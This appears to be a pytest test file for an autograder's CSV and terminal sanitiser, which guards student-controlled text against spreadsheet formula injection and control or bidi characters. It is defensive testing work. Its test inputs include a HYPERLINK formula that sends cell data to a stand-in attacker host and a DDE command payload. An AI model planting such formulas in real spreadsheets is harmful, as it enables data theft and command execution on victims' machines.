"""Student-controlled text in CSV cells and on the terminal (autograder.core.untrusted)."""

import csv
import io
import os

import pytest

from autograder.core.untrusted import csv_safe, csv_text, printable


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "=1+1",
])
def test_formula_starts_get_an_apostrophe(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text, safe", [
    ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\r'=1+1"),  # the cell's start, and the field a tab or row starts
    ("x;=1+1", "x;'=1+1"), ("x\t@SUM(A1)", "x\t'@SUM(A1)"), ("x, =1", "x, '=1"), (" =1", " '=1"),
    ('x;"=1', 'x;"\'=1'), ("x\n+1+1", "x\n'+1+1"), ("x;-0.5", "x;-0.5"), ("a - b", "a - b"),
    ("x;'=1", "x;'=1"),
])
def test_every_field_another_import_could_cut_is_guarded(text, safe):
    assert csv_safe(text) == safe
    assert csv_safe(csv_text(safe)) == safe  # a rewrite adds no apostrophe


@pytest.mark.parametrize("value", [0, 3.5, -0.5, "-0.5", "+2", "1e-3", "-inf ", "ada", "", None])
def test_numbers_and_plain_text_pass_unchanged(value):
    expected = "'-inf " if value == "-inf " else value
    assert csv_safe(value) == expected


def test_a_neutralised_row_reads_back_as_text_and_numbers():
    row = [csv_safe(x) for x in ("=2+3", -1.25, "-1.25", 'a "quoted", value', "@x")]
    buf = io.StringIO()
    csv.writer(buf).writerow(row)
    back = next(csv.reader(io.StringIO(buf.getvalue())))
    assert back == ["'=2+3", "-1.25", "-1.25", 'a "quoted", value', "'@x"]
    assert float(back[1]) == -1.25


def test_printable_escapes_controls_bidi_and_undecodable_bytes():
    name = os.fsdecode(b"notes\xff\x1b[2J\x07.ipynb")
    shown = printable(name + "\u202egnp.exe\nnext")
    assert shown == "notes\\xff\\x1b[2J\\x07.ipynb\\u202egnp.exe\\x0anext"
    shown.encode("utf-8")  # no lone surrogates left: it prints anywhere
    assert printable("Zoë 李 (1).ipynb") == "Zoë 李 (1).ipynb"
